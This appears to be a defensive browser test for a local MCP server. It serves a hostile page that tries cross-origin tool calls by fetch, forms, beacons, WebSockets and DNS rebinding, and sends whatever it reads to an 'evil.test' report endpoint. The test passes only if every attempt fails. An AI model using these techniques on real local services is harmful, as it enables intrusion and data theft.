// browser.mjs - a page of somebody else's in a real browser, and a hub on this machine: node browser.mjs HUB TOKEN LEDGER
// HUB is http://127.0.0.1:PORT, TOKEN is known to the page ("" where the hub asks for none), LEDGER is what the hub's
// server carried out. The page tries every way a page has to reach another origin; it comes from another port of
// this machine, from a foreign name, from a frame without an origin, and from a name that leads to the hub
// once the page is there (DNS rebinding). Nothing may be readable, and nothing may be carried out. One line per case.
import { spawn } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { createServer } from 'node:http';
import { connect, createServer as createPlain } from 'node:net';
import { tmpdir } from 'node:os';

const [hub, token, ledger] = process.argv.slice(2);
const { port } = new URL(hub);
const chromium = process.env.CHROMIUM ?? 'chromium';
const sleep = (ms) => new Promise((done) => setTimeout(done, ms));
const carriedOut = () => readFileSync(ledger, 'utf8').split('\n').filter(Boolean);
let failures = 0;

const call = (tag) => JSON.stringify({
	jsonrpc: '2.0', id: 1, method: 'tools/call', params: {
		name: 'mcp__a__echo', arguments: { message: tag }, _meta: {
			'io.modelcontextprotocol/protocolVersion': '2026-07-28', 'io.modelcontextprotocol/clientCapabilities': {},
			'io.modelcontextprotocol/clientInfo': { name: 'evil', version: '1' },
		},
	},
});
const modern = {
	'content-type': 'application/json', accept: 'application/json, text/event-stream', 'mcp-protocol-version': '2026-07-28',
	'mcp-method': 'tools/call', 'mcp-name': 'mcp__a__echo',
};

// --- what a page tries: each resolves with what it could read, or throws -------------------------------------------

const tries = {
	simple_post: (to, t) => fetch(`${to}/mcp`, { method: 'POST', body: t.call }).then((r) => r.text()),
	blind_post: (to, t) => fetch(`${to}/mcp`, { method: 'POST', mode: 'no-cors', body: t.call }).then((r) => r.text()),
	blind_post_with_credentials: (to, t) => fetch(`${to}/mcp`, { method: 'POST', mode: 'no-cors', credentials: 'include', body: t.call }).then((r) => r.text()),
	asked_first: (to, t) => fetch(`${to}/mcp`, { method: 'POST', headers: { ...t.modern, ...t.auth }, body: t.call }).then((r) => r.text()),
	get: (to, t) => fetch(`${to}/mcp`, { headers: { ...t.auth } }).then((r) => r.text()),
	health: (to) => fetch(`${to}/health`).then((r) => r.text()),
	remove: (to, t) => fetch(`${to}/mcp`, { method: 'DELETE', headers: { ...t.auth, 'mcp-session-id': 'x' } }).then((r) => r.text()),
	xhr: (to, t) => new Promise((yes, no) => {
		const x = new XMLHttpRequest();
		x.open('POST', `${to}/mcp`);
		x.onload = () => yes(x.responseText);
		x.onerror = () => no(new Error('no'));
		x.send(t.call);
	}),
	beacon: async (to, t) => {
		navigator.sendBeacon(`${to}/mcp`, t.call);
		navigator.sendBeacon(`${to}/mcp`, new Blob([t.call], { type: 'text/plain' }));
		return '';
	},
	events: (to) => new Promise((yes, no) => {
		const e = new EventSource(`${to}/sse`);
		e.addEventListener('endpoint', ({ data }) => yes(data));
		e.onerror = () => (e.close(), no(new Error('no')));
	}),
	websocket: (to, t) => new Promise((yes, no) => {
		const s = new WebSocket(`${to.replace('http', 'ws')}/ws`, ['mcp']);
		s.onopen = () => s.send(t.call);
		s.onmessage = ({ data }) => yes(data);
		s.onerror = s.onclose = () => no(new Error('no'));
	}),
	websocket_with_token: (to, t) => new Promise((yes, no) => {
		const s = new WebSocket(`${to.replace('http', 'ws')}/ws?token=${t.token}&access_token=${t.token}`, ['mcp', 'bearer', t.token || 'x']);
		s.onopen = () => s.send(t.call);
		s.onmessage = ({ data }) => yes(data);
		s.onerror = s.onclose = () => no(new Error('no'));
	}),
	form: (to, t) => new Promise((done) => {
		const frame = document.body.appendChild(document.createElement('iframe'));
		const form = document.body.appendChild(document.createElement('form'));
		const field = form.appendChild(document.createElement('input'));
		frame.name = `f${Math.random()}`;
		Object.assign(form, { action: `${to}/mcp`, method: 'POST', enctype: 'text/plain', target: frame.name });
		field.name = `${t.call.slice(0, -1)},"pad":"`;
		field.value = '"}';
		frame.onload = () => setTimeout(() => {
			try {
				done(frame.contentDocument.body.innerText);
			} catch {
				done('');
			}
		}, 200);
		form.submit();
	}),
	image: (to) => new Promise((yes, no) => {
		const i = new Image();
		i.onload = () => yes('an image');
		i.onerror = () => no(new Error('no'));
		i.src = `${to}/mcp`;
	}),
	script: (to) => new Promise((yes, no) => {
		const s = document.createElement('script');
		s.onload = () => yes('a script');
		s.onerror = () => no(new Error('no'));
		s.src = `${to}/health`;
		document.body.append(s);
	}),
	worker: (to) => navigator.serviceWorker.register(`${to}/health`).then(() => 'a worker'),
};

// The same, as the page has it; it reports to its own server, wherever that is by then.
const page = (targets, tag, frame) => `<!doctype html><meta charset=utf-8><body><script>
const tries = {${Object.entries(tries).map(([name, fn]) => `${name}: ${fn}`).join(',')}};
const t = ${JSON.stringify({ call: call(tag), modern, auth: token ? { authorization: `Bearer ${token}` } : {}, token })};
const late = (ms) => new Promise((_, no) => setTimeout(() => no(new Error('late')), ms));
(async () => {
	const got = {};
	${frame ? '' : "await fetch('/ready').catch(() => {});"}
	for (const to of ${JSON.stringify(targets)})
		await Promise.all(Object.keys(tries).map(async (name) => {
			try {
				const text = await Promise.race([tries[name](to, t), late(4000)]);
				if (text) got[name + ' ' + to] = String(text).slice(0, 200);
			} catch {}
		}));
	await fetch(${JSON.stringify(`http://127.0.0.1:${'@PORT@'}/report`)}, { method: 'POST', mode: 'no-cors', body: JSON.stringify(got) });
})();
</script>`;

// --- who serves it, and where it leads -----------------------------------------------------------------------------

let html = '', framed = '', report, rebound = false;
const attacker = createServer((q, a) => {
	let text = '';
	a.shouldKeepAlive = false; // the next one may lead elsewhere
	q.on('data', (piece) => { text += piece; }).on('end', () => {
		if (q.url === '/report') report?.(JSON.parse(text));
		if (q.url === '/ready') rebound = true; // from now on the name leads to the hub
		if (q.url.startsWith('/redirect')) return a.writeHead(307, { location: `${hub}/mcp` }).end();
		a.setHeader('content-type', 'text/html');
		a.end(q.url === '/framed' ? framed : q.url === '/' ? html : '');
	});
}).listen(0, '127.0.0.1');
await new Promise((done) => attacker.once('listening', done));
const evil = attacker.address().port;

// 127.0.0.2 with the hub's own port: first the page, then the hub, byte for byte.
const board = createPlain((client) => {
	const server = connect(rebound ? port : evil, '127.0.0.1');
	client.pipe(server).pipe(client);
	for (const end of [client, server]) end.on('error', () => (client.destroy(), server.destroy()));
}).listen(port, '127.0.0.2');
await new Promise((done) => board.once('listening', done));

async function browse(address) {
	const profile = mkdtempSync(`${tmpdir()}/browser-`);
	const heard = new Promise((done) => { report = done; });
	const browser = spawn(chromium, [
		'--headless=new', '--no-sandbox', '--disable-gpu', '--no-first-run', '--disable-background-networking', '--disable-sync',
		'--disable-component-update', '--no-proxy-server', `--user-data-dir=${profile}`,
		'--host-resolver-rules=MAP rebind.test 127.0.0.2, MAP evil.test 127.0.0.1, MAP hub.test 127.0.0.1', address,
	], { stdio: ['ignore', 'ignore', 'ignore'], detached: true });
	const got = await Promise.race([heard, sleep(40000).then(() => null)]);
	await sleep(300);
	try { process.kill(-browser.pid, 'SIGKILL'); } catch { /* it has gone */ }
	await sleep(200);
	rmSync(profile, { recursive: true, force: true, maxRetries: 5 });
	return got;
}

async function attack(name, address, targets, via = 'html') {
	rebound = false;
	const before = carriedOut().length, text = page(targets, name, via !== 'html').replace('@PORT@', evil);
	if (via === 'html') html = text;
	else [html, framed] = ['<!doctype html><iframe sandbox="allow-scripts allow-forms" src="/framed"></iframe>', text];
	const got = await browse(address);
	const done = carriedOut().slice(before);
	const isOwn = (key) => key.endsWith(new URL(address).origin); // where a page may read, it may read that it is refused
	const refusals = Object.keys(got ?? {}).filter((key) => isOwn(key) && /"message":"this Host is not mcpool"/.test(got[key]));
	refusals.forEach((key) => delete got[key]);
	const why = !got ? 'the page never reported' : Object.keys(got).length ? `it could read ${JSON.stringify(got)}`
		: done.length ? `carried out: ${done}` : name.startsWith('rebound') && refusals.length < 3 ? 'it never reached the hub' : '';

	if (why) failures++;
	console.log(why ? `FAIL browser/${name}: ${why}` : `ok browser/${name}`);
}

// --- the cases -----------------------------------------------------------------------------------------------------

// That the ledger shows what is carried out: as no browser would send it.
const control = await fetch(`${hub}/mcp`, { method: 'POST', headers: { ...modern, ...(token && { authorization: `Bearer ${token}` }) }, body: call('control') });
await control.text();
if (!control.ok || !carriedOut().some((line) => line.includes('control'))) {
	console.log(`FAIL browser/control: ${control.status}, and the ledger does not show it`);
	process.exit(1);
}
const how = token ? 'with_the_token' : 'without_a_token';
await attack(`another_port_${how}`, `http://127.0.0.1:${evil}/`, [hub, `http://localhost:${port}`, `http://127.0.0.1:${evil}/redirect?`]);
await attack(`another_name_${how}`, `http://evil.test:${evil}/`, [hub, `http://localhost:${port}`, `http://hub.test:${port}`]);
await attack(`no_origin_${how}`, `http://evil.test:${evil}/`, [hub], 'framed');
await attack(`rebound_${how}`, `http://rebind.test:${port}/`, [`http://rebind.test:${port}`, hub]);
process.exit(failures ? 1 : 0);
